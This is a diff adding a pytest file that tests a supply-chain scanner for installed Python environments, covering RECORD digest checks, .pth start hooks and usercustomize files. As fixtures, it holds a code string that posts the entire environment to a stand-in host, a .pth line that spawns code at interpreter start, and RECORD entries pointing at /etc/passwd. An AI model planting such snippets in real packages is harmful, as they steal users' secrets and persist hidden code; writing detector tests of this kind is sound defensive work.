@@ -1,0 +1,160 @@
+"""Installed environments looked into: what RECORD lists of each package, and whatever runs at every start of Python."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import os
+from pathlib import Path
+
+import pytest
+
+from mlsupply.audit import run
+from mlsupply.model import Reason, Report
+from mlsupply.request import Request
+from mlsupply.world import World
+
+STEALS = "import os, requests\nrequests.post('https://c.example/e', json=dict(os.environ))\n"
+HOOK = "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import acme_agent'])\n"
+
+
+@pytest.fixture
+def site(tmp_path: Path) -> Path:
+    folder = tmp_path / "env/lib/python3.12/site-packages"
+    folder.mkdir(parents=True)
+    (tmp_path / "env/pyvenv.cfg").write_text("home = /usr/bin\n", encoding="utf-8")
+    return folder
+
+
+def install(site: Path, name: str, files: dict[str, str], version: str = "1.0") -> Path:
+    """As an installer does it: the files, and RECORD with their digests and sizes. Gives the path of RECORD."""
+    information = site / f"{name}-{version}.dist-info"
+    information.mkdir()
+    lines = [f"{information.name}/METADATA,,", f"{information.name}/RECORD,,"]
+    for path, text in files.items():
+        target = site / path
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(text, encoding="utf-8")
+        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
+        lines.append(f"{path},sha256={digest},{len(text)}")
+    (information / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", encoding="utf-8")
+    (information / "RECORD").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return information / "RECORD"
+
+
+def scanned(world: World, site: Path, mode: str = "all") -> Report:
+    request = Request(
+        environment=str(site.parents[2]), offline=True, checks=("contents",), settings={"contents": {"mode": mode}}
+    )
+    return run(request, world)
+
+
+def found(report: Report) -> set[tuple[str, str, str]]:
+    """(package or folder, rule, where) of what is medium or worse."""
+    return {
+        (f.package.name if f.package else Path(f.subject).name, f.id, f.places[0].member or "")
+        for f in report.findings
+        if f.severity.value in {"medium", "high", "critical"}
+    }
+
+
+def test_what_an_environment_holds_is_read_where_it_lies(site: Path, world: World) -> None:
+    install(site, "thief", {"thief/__init__.py": STEALS})
+    install(site, "quiet", {"quiet/__init__.py": "x = 1\n", "quiet/data.json": "{}"})
+    report = scanned(world, site)
+    assert found(report) == {("thief", "MLS-C010", "thief/__init__.py")}
+    assert report.gaps == ()
+
+
+def test_by_default_only_what_runs_at_every_start_is_read_and_that_is_said(site: Path, world: World) -> None:
+    install(site, "thief", {"thief/__init__.py": STEALS})
+    install(site, "hooked", {"hooked/__init__.py": "", "hooked.pth": HOOK})
+    report = scanned(world, site, "local")
+    assert found(report) == {("hooked", "MLS-C037", "hooked.pth")}
+    (gap,) = report.gaps
+    assert gap.reason is Reason.DISABLED
+    assert "--contents all" in gap.hint
+
+
+@pytest.mark.parametrize("mode", ["local", "all"])
+def test_a_start_file_that_belongs_to_no_package_is_found_with_the_module_it_names(
+    mode: str, site: Path, world: World
+) -> None:
+    """What a payload leaves behind is in nobody's RECORD."""
+    install(site, "quiet", {"quiet/__init__.py": "x = 1\n"})
+    (site / "zz.pth").write_text("import zz_loader\n", encoding="utf-8")
+    (site / "zz_loader.py").write_text(STEALS, encoding="utf-8")
+    (site / "usercustomize.py").write_text(STEALS, encoding="utf-8")
+    names = {(name, where) for name, _, where in found(scanned(world, site, mode))}
+    assert names == {("site-packages", "zz_loader.py"), ("site-packages", "usercustomize.py")}
+
+
+def test_the_start_files_of_ordinary_environments_are_quiet(site: Path, world: World) -> None:
+    install(
+        site, "setuptools", {"setuptools/__init__.py": "", "distutils-precedence.pth": "import os; os.environ.get('X')\n"}
+    )
+    (site / "__editable__.app-1.0.pth").write_text("/home/me/app/src\n", encoding="utf-8")
+    (site / "_virtualenv.pth").write_text("import _virtualenv\n", encoding="utf-8")
+    (site / "_virtualenv.py").write_text("import sys\nVERSION = sys.version_info\n", encoding="utf-8")
+    assert found(scanned(world, site)) == set()
+
+
+def test_a_file_changed_after_it_was_installed_is_found(site: Path, world: World) -> None:
+    install(site, "quiet", {"quiet/__init__.py": "x = 1\n", "quiet/other.py": "y = 1\n"})
+    (site / "quiet/__init__.py").write_text("x = 2\n", encoding="utf-8")
+    (site / "quiet/other.py").unlink()
+    report = scanned(world, site)
+    assert {(f.id, f.places[0].member) for f in report.findings} >= {("MLS-A010", "quiet/__init__.py")}
+
+
+def test_bytecode_and_what_an_installer_made_is_not_held_against_a_package(site: Path, world: World) -> None:
+    record = install(
+        site, "quiet", {"quiet/__init__.py": "x = 1\n", "../../../bin/quiet": "#!/env/bin/python\nimport quiet\n"}
+    )
+    made = ["quiet/__pycache__/__init__.cpython-312.pyc,,", "../../../bin/gone.exe,,", "quiet-1.0.dist-info/INSTALLER,,"]
+    record.write_text(record.read_text(encoding="utf-8") + "\n".join(made) + "\n", encoding="utf-8")
+    (site / "quiet-1.0.dist-info/INSTALLER").write_text("uv", encoding="utf-8")
+    assert found(scanned(world, site)) == set()
+
+
+def test_scripts_beside_the_packages_are_read(site: Path, world: World) -> None:
+    install(site, "tool", {"tool/__init__.py": "", "../../../bin/tool": f"#!/env/bin/python3.12\n{STEALS}"})
+    assert [(name, where) for name, _, where in found(scanned(world, site))] == [("tool", "tool-1.0.data/scripts/tool")]
+
+
+def test_files_that_are_links_are_read_where_they_lead(site: Path, world: World, tmp_path: Path) -> None:
+    """Installers can link packages out of their cache."""
+    install(site, "thief", {"thief/__init__.py": STEALS})
+    cached = tmp_path / "cache.py"
+    (site / "thief/__init__.py").replace(cached)
+    (site / "thief/__init__.py").symlink_to(cached)
+    assert {name for name, _, _ in found(scanned(world, site))} == {"thief"}
+
+
+@pytest.mark.parametrize(
+    ("lines", "said"),
+    [("", "RECORD lists no file"), ("../../../../../../etc/passwd,,\n/etc/passwd,,\n", "RECORD lists no file")],
+)
+def test_a_record_that_tells_no_file_of_the_environment_is_a_gap(lines: str, said: str, site: Path, world: World) -> None:
+    install(site, "odd", {"odd/__init__.py": STEALS}).write_text(lines, encoding="utf-8")
+    report = scanned(world, site)
+    assert [said in gap.detail for gap in report.gaps if gap.check == "contents"] == [True]
+    assert report.verdict.exit_code == 3
+
+
+def test_an_environment_is_read_once_until_one_of_its_files_changes(
+    site: Path, world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from mlsupply.evidence import look
+
+    install(site, "quiet", {"quiet/__init__.py": "x = 1\n"})
+    assert scanned(world, site).findings == ()
+    with monkeypatch.context() as patch:
+        patch.delattr(look, "looked_at")  # nothing may be analysed again
+        again = scanned(world, site)
+        assert (again.findings, again.gaps) == ((), ())
+    changed = site / "quiet/__init__.py"
+    before = changed.stat()
+    changed.write_text("x = 9\n", encoding="utf-8")
+    os.utime(changed, ns=(before.st_atime_ns, before.st_mtime_ns))
+    assert [f.id for f in scanned(world, site).findings] == ["MLS-A010"]
